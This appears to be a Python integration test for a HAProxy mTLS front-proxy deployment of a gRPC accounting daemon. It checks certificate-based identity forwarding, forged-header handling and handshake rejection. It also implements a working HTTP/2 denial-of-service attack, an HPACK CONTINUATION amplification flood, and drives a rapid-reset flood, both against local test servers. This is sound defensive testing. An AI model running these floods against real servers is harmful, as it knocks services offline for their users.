#!/usr/bin/python3
"""deploy/front-proxy/haproxy-mtls.cfg, run: client certificates checked by
HAProxy and passed on to cgacctd (--trusted_proxies), and the attack that
was left open on a direct mTLS connection (issue 22; docs/DESIGN.md §4.10).

  front_proxy_mtls_test.py --cgacctd PATH --haproxy PATH --stubs DIR
                           --source DIR [--connections N] [--block-kb KB]
                           [--direct]

Certificates (the openssl CLI, now): ca.pem signs both servers'
certificates (HAProxy's and cgacctd's, localhost); tenants-ca.pem the
tenants' (A: URI SAN spiffe://t/a, B: spiffe://t/b); proxy-ca.pem
HAProxy's own client certificate (CN cgacct-front-proxy); other-ca.pem a
stranger's certificate naming spiffe://t/a.

cgacctd: TLS on 127.0.0.1, --client_ca=proxy-ca.pem --require_client_cert
--trusted_proxies=cn:cgacct-front-proxy, a tokens file (an operator) and a
policy (A rw /a, B rw /b, the operator admin). Debian's HAProxy runs the
shipped file, changed only in its addresses, the certificates' paths and
its log (front_proxy_test.render_config). Checked through the proxy with
Python gRPC (each check on a connection of its own):
  - A's certificate names the caller uri:spiffe://t/a: it charges /a and is
    refused /b (PERMISSION_DENIED); B likewise;
  - A sending B's certificate in its own x-cgacct-client-cert header is
    still A (HAProxy deletes the client's copy); a client with no
    certificate sending A's is UNAUTHENTICATED; the operator's token
    through the proxy is token:operator;
  - the stranger's certificate (spiffe://t/a from another CA) fails the
    handshake at HAProxy (UNAVAILABLE);
  - straight to cgacctd, A's certificate fails the handshake (the tenants'
    CA is not cgacctd's);
  - the attack: N (8) connections with A's certificate, each with a read
    pending at cgacctd (a ChargeStream whose first message is half sent)
    and then a header block of KB (400) KiB that never ends on another
    stream (HPACK: a 100-byte header indexed once, then 1-byte references
    to it: 400 KiB decode to ~40 MB), never acknowledging the server's
    SETTINGS. Through the proxy every connection is closed or its stream
    refused, cgacctd's RSS (sampled every 50 ms) stays under 2x idle, and
    B's ChargeStream answers all along;
  - rapid reset with A's certificate in the form HAProxy passes on
    (rapid_reset_flood.py --split 0.01 --body --cert, --flood-seconds, 6):
    cgacctd's RSS under 2x idle (not checked with --sanitized: the g++
    build's run checks it) and B's ChargeStream answering all along.
--direct runs the attack straight against a cgacctd whose --client_ca is
the tenants' CA (the deployment before this recipe) and prints its RSS, for
the record (not in ctest: it holds hundreds of MB).
Exit 0 when every check holds, 1 when one does not, 77 when HAProxy is not
installed.
"""
import argparse
import os
import select
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import front_proxy_test as fp  # noqa: E402

SHIPPED = os.path.join("deploy", "front-proxy", "haproxy-mtls.cfg")
OPERATOR_TOKEN = "operator-token-0123456789abcdef"
POLICY = ("uri:spiffe://t/a rw /a\n"
          "uri:spiffe://t/b rw /b\n"
          "token:operator admin\n")


def openssl(*args):
    subprocess.run(["openssl"] + list(args), check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def make_ca(d, name):
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt",
            "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj",
            "/CN=" + name, "-addext", "basicConstraints=critical,CA:TRUE",
            "-addext", "keyUsage=critical,keyCertSign,cRLSign", "-keyout",
            os.path.join(d, name + ".key"), "-out",
            os.path.join(d, name + ".pem"))


def make_client(d, name, ca, cn, san, serial):
    """NAME.pem, NAME.key (and NAME-both.pem: both, for HAProxy's `crt`)."""
    p = lambda n: os.path.join(d, n)
    with open(p(name + ".ext"), "w") as f:
        f.write("basicConstraints=CA:FALSE\n"
                "keyUsage=critical,digitalSignature,keyEncipherment\n"
                "extendedKeyUsage=clientAuth\n" +
                ("subjectAltName=%s\n" % san if san else ""))
    openssl("req", "-new", "-newkey", "ec", "-pkeyopt",
            "ec_paramgen_curve:prime256v1", "-nodes", "-subj", "/CN=" + cn,
            "-keyout", p(name + ".key"), "-out", p(name + ".csr"))
    openssl("x509", "-req", "-days", "2", "-in", p(name + ".csr"), "-CA",
            p(ca + ".pem"), "-CAkey", p(ca + ".key"), "-set_serial",
            str(serial), "-extfile", p(name + ".ext"), "-out",
            p(name + ".pem"))
    with open(p(name + "-both.pem"), "w") as out:
        for part in (name + ".pem", name + ".key"):
            with open(p(part)) as f:
                out.write(f.read())
    os.chmod(p(name + "-both.pem"), 0o600)


def start_cgacctd(binary, d, client_ca, extra):
    p = lambda n: os.path.join(d, n)
    err = open(p("cgacctd.stderr"), "a")
    proc = subprocess.Popen(
        [binary, "--listen=127.0.0.1:0", "--metrics_listen=127.0.0.1:0",
         "--cpus=2", "--tls_cert=" + p("server.pem"),
         "--tls_key=" + p("server.key"), "--client_ca=" + client_ca,
         "--require_client_cert", "--tokens_file=" + p("tokens"),
         "--authz_policy=" + p("policy")] + extra,
        stdout=subprocess.PIPE, stderr=err, text=True)
    line = proc.stdout.readline()
    m = fp.re.search(r"listening on 127\.0\.0\.1:(\d+) ", line)
    if not m:
        proc.kill()
        raise RuntimeError("cgacctd did not start: %r" % line)
    return proc, int(m.group(1))


class Grpc:
    """Python gRPC over TLS with an optional client certificate; every
    channel its own connection."""

    def __init__(self, stubs, d):
        sys.path.insert(0, stubs)
        import grpc
        from cgacct.v1 import accounting_pb2, accounting_pb2_grpc
        self.grpc, self.pb, self.pbg, self.d = (grpc, accounting_pb2,
                                                accounting_pb2_grpc, d)

    def read(self, name):
        with open(os.path.join(self.d, name), "rb") as f:
            return f.read()

    def stub(self, port, client=None):
        creds = self.grpc.ssl_channel_credentials(
            self.read("ca.pem"),
            self.read(client + ".key") if client else None,
            self.read(client + ".pem") if client else None)
        channel = self.grpc.secure_channel(
            "127.0.0.1:%d" % port, creds,
            options=[("grpc.ssl_target_name_override", "localhost"),
                     ("grpc.use_local_subchannel_pool", 1)])
        return self.pbg.AccountingStub(channel), channel

    def call(self, port, client, method, request, metadata=()):
        """(code name, details, response) of one unary call."""
        stub, channel = self.stub(port, client)
        try:
            response = getattr(stub, method)(request, metadata=metadata,
                                             timeout=10)
            return "OK", "", response
        except self.grpc.RpcError as e:
            return e.code().name, e.details(), None
        finally:
            channel.close()


def der64(d, name):
    """The base64 DER of NAME.pem, as HAProxy's %[ssl_c_der,base64]."""
    with open(os.path.join(d, name + ".pem")) as f:
        return "".join(l.strip() for l in f if l.strip() and
                       not l.startswith("-----"))


# --- the attack: raw HTTP/2 frames -----------------------------------------

def frame(kind, flags, stream, payload):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def hpack_request(encoder, path):
    return encoder.encode([
        (":method", "POST"), (":scheme", "https"), (":path", path),
        (":authority", "localhost"), ("content-type", "application/grpc"),
        ("te", "trailers")])


def attack_connection(port, d, client, block_kb, result):
    """One attacking connection (see the module docstring); result gets
    "closed" (the connection ended, or a GOAWAY or RST_STREAM came) or
    "open" 5 s after the block was sent, and the block's bytes sent."""
    import hpack
    ctx = ssl.create_default_context(cafile=os.path.join(d, "ca.pem"))
    ctx.load_cert_chain(os.path.join(d, client + ".pem"),
                        os.path.join(d, client + ".key"))
    ctx.set_alpn_protocols(["h2"])
    encoder = hpack.Encoder()
    sent = 0
    seen = b""
    closed = False

    def receive(wait):
        nonlocal seen, closed
        if not s.pending() and not select.select([s], [], [], wait)[0]:
            return
        try:
            data = s.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return
        except (OSError, ssl.SSLError):
            closed = True
            return
        if not data:
            closed = True
        seen += data
        # GOAWAY (7), or RST_STREAM (3): the server refused.
        if frames_of_kind(seen, (3, 7)):
            closed = True
    try:
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        s = ctx.wrap_socket(raw, server_hostname="localhost")
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        # Stream 1: a ChargeStream whose first message announces 100 bytes
        # and sends 10: cgacctd's read is pending. (Never a SETTINGS ACK.)
        s.sendall(frame(1, 4, 1, hpack_request(
            encoder, "/cgacct.v1.Accounting/ChargeStream")) +
            frame(0, 0, 1, b"\x00" + struct.pack(">I", 100) + b"\x0a" * 10))
        time.sleep(0.3)
        # Stream 3: HEADERS without END_HEADERS holding a 100-byte header
        # indexed (literal with incremental indexing: the newest dynamic
        # entry, index 62), then CONTINUATIONs of 1-byte references to it.
        s.sendall(frame(1, 0, 3, hpack_request(
            encoder, "/cgacct.v1.Accounting/GetEngineInfo") +
            b"\x40\x05x-pad\x64" + b"p" * 100))
        chunk = frame(9, 0, 3, b"\xbe" * 16384)
        s.settimeout(5)
        while sent < block_kb * 1024 and not closed:
            try:
                s.sendall(chunk)
                sent += 16384
            except socket.timeout:
                break  # the peer stopped reading: see whether it closes
            except (OSError, ssl.SSLError):
                closed = True
                break
            receive(0)
        deadline = time.monotonic() + 5
        while not closed and time.monotonic() < deadline:
            receive(0.2)
        result.update(state="closed" if closed else "open", sent=sent,
                      sock=s)
    except (OSError, ssl.SSLError) as e:
        result.update(state="closed", sent=sent, error=str(e))


def frames_of_kind(data, kinds):
    """Whether `data` (frames from the server) holds a frame of a type in
    `kinds`; stops at an incomplete frame."""
    i = 0
    while i + 9 <= len(data):
        length = int.from_bytes(data[i:i + 3], "big")
        if data[i + 3] in kinds:
            return True
        i += 9 + length
    return False


def attack(port, d, client, connections, block_kb, pid):
    """Runs the attack's connections at once; returns (states, idle KiB,
    peak KiB) of process `pid`, the sockets still held until 3 s after."""
    idle = fp.rss_kb(pid)
    peak = [idle]
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            peak[0] = max(peak[0], fp.rss_kb(pid))
            time.sleep(0.05)
    sampler = threading.Thread(target=sample)
    sampler.start()
    results = [{} for _ in range(connections)]
    threads = [threading.Thread(target=attack_connection,
                                args=(port, d, client, block_kb, r))
               for r in results]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    time.sleep(3)
    stop.set()
    sampler.join()
    for r in results:
        s = r.pop("sock", None)
        if s is not None:
            s.close()
    return results, idle, peak[0]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--cgacctd", required=True)
    parser.add_argument("--haproxy", default="")
    parser.add_argument("--stubs", required=True)
    parser.add_argument("--source", required=True)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--block-kb", type=int, default=400)
    parser.add_argument("--direct", action="store_true")
    parser.add_argument("--flood-seconds", type=float, default=6.0)
    parser.add_argument("--sanitized", default="",
                        help="a sanitizer build: the flood's RSS is not "
                        "checked (the sanitizer's allocator, and a daemon "
                        "several times slower, which the flood outruns)")
    args = parser.parse_args()
    if not args.haproxy or not os.access(args.haproxy, os.X_OK):
        print("skipped: haproxy is not installed (apt-get install haproxy; "
              "deploy/install-deps.sh does)")
        return 77
    d = tempfile.mkdtemp(prefix="cgacct-front-proxy-mtls-")
    procs = []
    checks = fp.Checks()
    try:
        fp.make_certs(d)  # ca.pem, server.pem/.key, proxy.pem (HAProxy's)
        for ca in ("tenants-ca", "proxy-ca", "other-ca"):
            make_ca(d, ca)
        make_client(d, "tenant-a", "tenants-ca", "a", "URI:spiffe://t/a", 11)
        make_client(d, "tenant-b", "tenants-ca", "b", "URI:spiffe://t/b", 12)
        make_client(d, "stranger", "other-ca", "a", "URI:spiffe://t/a", 13)
        make_client(d, "proxy-client", "proxy-ca", "cgacct-front-proxy", "",
                    14)
        with open(os.path.join(d, "tokens"), "w") as f:
            f.write("operator %s\n" % OPERATOR_TOKEN)
        with open(os.path.join(d, "policy"), "w") as f:
            f.write(POLICY)
        g = Grpc(args.stubs, d)
        pb = g.pb
        operator = (("authorization", "Bearer " + OPERATOR_TOKEN),)

        if args.direct:
            cgacctd, port = start_cgacctd(
                args.cgacctd, d, os.path.join(d, "tenants-ca.pem"), [])
            procs.append(cgacctd)
            results, idle, peak = attack(port, d, "tenant-a",
                                         args.connections, args.block_kb,
                                         cgacctd.pid)
            print("direct: %d connections, %s after %s KiB sent; cgacctd RSS "
                  "idle %d KiB, peak %d KiB, %d KiB 3 s after" % (
                      len(results), [r["state"] for r in results],
                      sorted(r["sent"] // 1024 for r in results), idle,
                      peak, fp.rss_kb(cgacctd.pid)))
            return 0

        cgacctd, port = start_cgacctd(
            args.cgacctd, d, os.path.join(d, "proxy-ca.pem"),
            ["--trusted_proxies=cn:cgacct-front-proxy"])
        procs.append(cgacctd)
        proxy_port = fp.free_port()
        conf = os.path.join(d, "haproxy.cfg")
        fp.render_config(
            os.path.join(args.source, SHIPPED), conf, proxy_port, port,
            os.path.join(d, "proxy.pem"),
            paths={"/etc/cgacct/client-ca.pem":
                   os.path.join(d, "tenants-ca.pem"),
                   "/etc/cgacct/proxy-client.pem":
                   os.path.join(d, "proxy-client-both.pem"),
                   "/etc/cgacct/cgacctd-ca.pem": os.path.join(d, "ca.pem")})
        proxy = fp.start_haproxy(args.haproxy, conf,
                                 os.path.join(d, "haproxy.log"))
        procs.append(proxy)
        checks.expect(fp.wait_tls(proxy_port, os.path.join(d, "ca.pem"))
                      == "h2", "HAProxy speaks TLS with ALPN h2")

        for path in (b"/a", b"/b"):
            code, details, _ = g.call(proxy_port, None, "CreateGroup",
                                      pb.CreateGroupRequest(path=path),
                                      operator)
            checks.expect(code == "OK", "the operator's token through the "
                          "proxy creates %s (%s %s)" % (path, code, details))
        for client, own, other in (("tenant-a", b"/a", b"/b"),
                                   ("tenant-b", b"/b", b"/a")):
            code, details, info = g.call(proxy_port, client, "GetEngineInfo",
                                         pb.GetEngineInfoRequest())
            name = "uri:spiffe://t/" + own.decode()[1:]
            checks.expect(code == "OK" and info.caller_identity == name,
                          "%s's certificate through the proxy is %s (%s %s)"
                          % (client, name, code,
                             info.caller_identity if info else details))
            code, details, _ = g.call(proxy_port, client, "Charge",
                                      pb.ChargeRequest(path=own, nr_pages=10,
                                                       kind=pb.PAGE_KIND_ANON))
            checks.expect(code == "OK", "%s charges %s (%s %s)" % (
                client, own.decode(), code, details))
            code, details, _ = g.call(proxy_port, client, "Charge",
                                      pb.ChargeRequest(path=other, nr_pages=1,
                                                       kind=pb.PAGE_KIND_ANON))
            checks.expect(code == "PERMISSION_DENIED" and name in details,
                          "%s is refused %s: %s %s" % (
                              client, other.decode(), code, details))
        forged = (("x-cgacct-client-cert", der64(d, "tenant-b")),)
        code, details, info = g.call(proxy_port, "tenant-a", "GetEngineInfo",
                                     pb.GetEngineInfoRequest(), forged)
        checks.expect(code == "OK" and
                      info.caller_identity == "uri:spiffe://t/a",
                      "A sending B's certificate in the header is still A "
                      "(%s %s)" % (code,
                                   info.caller_identity if info else details))
        code, details, _ = g.call(proxy_port, None, "GetEngineInfo",
                                  pb.GetEngineInfoRequest(), forged)
        checks.expect(code == "UNAUTHENTICATED",
                      "no certificate, B's in the header: %s %s" % (
                          code, details))
        code, details, info = g.call(proxy_port, None, "GetEngineInfo",
                                     pb.GetEngineInfoRequest(), operator)
        checks.expect(code == "OK" and
                      info.caller_identity == "token:operator",
                      "a token through the proxy: %s %s" % (
                          code, info.caller_identity if info else details))
        code, details, _ = g.call(proxy_port, "stranger", "GetEngineInfo",
                                  pb.GetEngineInfoRequest())
        checks.expect(code == "UNAVAILABLE",
                      "a certificate from another CA fails the handshake "
                      "at the proxy: %s" % code)
        code, details, _ = g.call(port, "tenant-a", "GetEngineInfo",
                                  pb.GetEngineInfoRequest())
        checks.expect(code == "UNAVAILABLE",
                      "A straight to cgacctd fails the handshake: %s" % code)

        def with_victim(attack_fn):
            """attack_fn() while B charges a page every 100 ms on a
            ChargeStream through the proxy: (its result, B's answers:
            True for each charge answered OK)."""
            import queue
            b_stub, b_channel = g.stub(proxy_port, "tenant-b")
            q = queue.Queue()

            def messages():
                while True:
                    m = q.get()
                    if m is None:
                        return
                    yield m
            answers = b_stub.ChargeStream(messages(), timeout=120)
            b_answers = []

            def ask(n):
                q.put(pb.ChargeBatchRequest(ops=[pb.ChargeOp(
                    id=n, path=b"/b", nr_pages=1, kind=pb.PAGE_KIND_ANON)]))
                try:
                    r = next(answers)
                    b_answers.append(len(r.results) == 1 and
                                     r.results[0].code == 0)
                except Exception as e:  # noqa: BLE001 - the figure is the point
                    b_answers.append(False)
                    print("B's stream: %s" % e)
            ask(1)
            stop_b = threading.Event()

            def b_loop():
                n = 1
                while not stop_b.is_set():
                    n += 1
                    ask(n)
                    time.sleep(0.1)
            b_thread = threading.Thread(target=b_loop)
            b_thread.start()
            try:
                result = attack_fn()
            finally:
                stop_b.set()
                b_thread.join()
                q.put(None)
                b_channel.close()
            return result, b_answers

        (results, idle, peak), b_answers = with_victim(
            lambda: attack(proxy_port, d, "tenant-a", args.connections,
                           args.block_kb, cgacctd.pid))
        states = [r["state"] for r in results]
        print("attack through the proxy: %d connections x %d KiB header "
              "block: %s after %s KiB sent; cgacctd RSS idle %d KiB, peak %d "
              "KiB; HAProxy %d KiB; B's stream %d of %d answered" % (
                  len(results), args.block_kb, states,
                  sorted(r["sent"] // 1024 for r in results), idle, peak,
                  fp.tree_rss_kb(proxy.pid), sum(b_answers), len(b_answers)),
              flush=True)
        checks.expect(all(s == "closed" for s in states),
                      "every attacking connection was closed or refused by "
                      "HAProxy")
        checks.expect(peak < 2 * idle,
                      "cgacctd's RSS stayed under 2x idle (%d < 2 x %d KiB)"
                      % (peak, idle))
        checks.expect(len(b_answers) > 5 and all(b_answers),
                      "B's ChargeStream answered all through the attack")

        # Rapid reset from a tenant holding a certificate, in the form
        # HAProxy passes on (each stream's first body bytes in one write,
        # its reset in the next): every call reaches cgacctd with A's
        # certificate in x-cgacct-client-cert. Parsed on each call, that
        # queued 45-61 k calls and 1.2 GB while B's charges timed out (the
        # attack round at d766e0f); the names are now remembered per value
        # (ForwardedCertificateCache).
        def flood():
            idle = fp.rss_kb(cgacctd.pid)
            peak = [idle]
            stop = threading.Event()

            def sample():
                while not stop.is_set():
                    peak[0] = max(peak[0], fp.rss_kb(cgacctd.pid))
                    time.sleep(0.05)
            sampler = threading.Thread(target=sample)
            sampler.start()
            out = subprocess.run(
                [sys.executable, os.path.join(
                    args.source, "tests", "server", "daemon",
                    "rapid_reset_flood.py"), "127.0.0.1", str(proxy_port),
                 str(args.flood_seconds), "--tls", os.path.join(d, "ca.pem"),
                 "--server-name", "localhost", "--reconnect", "--split",
                 "0.01", "--body", "--cert", os.path.join(d, "tenant-a.pem"),
                 "--key", os.path.join(d, "tenant-a.key")],
                capture_output=True, text=True, timeout=120)
            time.sleep(3)
            stop.set()
            sampler.join()
            return out, idle, peak[0], fp.rss_kb(cgacctd.pid)
        (out, idle, peak, after), b_answers = with_victim(flood)
        print("certificate holder's rapid reset (--split 0.01 --body) "
              "through the proxy, %s s: %s; cgacctd RSS idle %d KiB, peak %d "
              "KiB, %d KiB 3 s after; B's stream %d of %d answered" % (
                  args.flood_seconds, out.stdout.strip() or out.stderr.strip(),
                  idle, peak, after, sum(b_answers), len(b_answers)),
              flush=True)
        checks.expect(out.returncode == 0, "the flood ran")
        if args.sanitized:
            print("not checked: the flood's RSS in a sanitizer build (%s)"
                  % args.sanitized)
        else:
            checks.expect(peak < 2 * idle,
                          "cgacctd's RSS stayed under 2x idle in the flood "
                          "(%d < 2 x %d KiB)" % (peak, idle))
        checks.expect(len(b_answers) > 5 and all(b_answers),
                      "B's ChargeStream answered all through the flood")
        checks.expect(cgacctd.poll() is None and proxy.poll() is None,
                      "cgacctd and HAProxy alive")
    finally:
        for p in procs:
            p.terminate()
        for p in procs:
            try:
                p.wait(10)
            except subprocess.TimeoutExpired:
                p.kill()
        if checks.failed:
            for name in ("haproxy.log", "cgacctd.stderr"):
                path = os.path.join(d, name)
                if os.path.exists(path):
                    with open(path) as f:
                        print("%s (last lines):\n%s" % (
                            name, "".join(f.readlines()[-20:])))
        shutil.rmtree(d, ignore_errors=True)
    if checks.failed:
        print("FAILED: %d checks" % len(checks.failed))
        return 1
    print("all checks passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
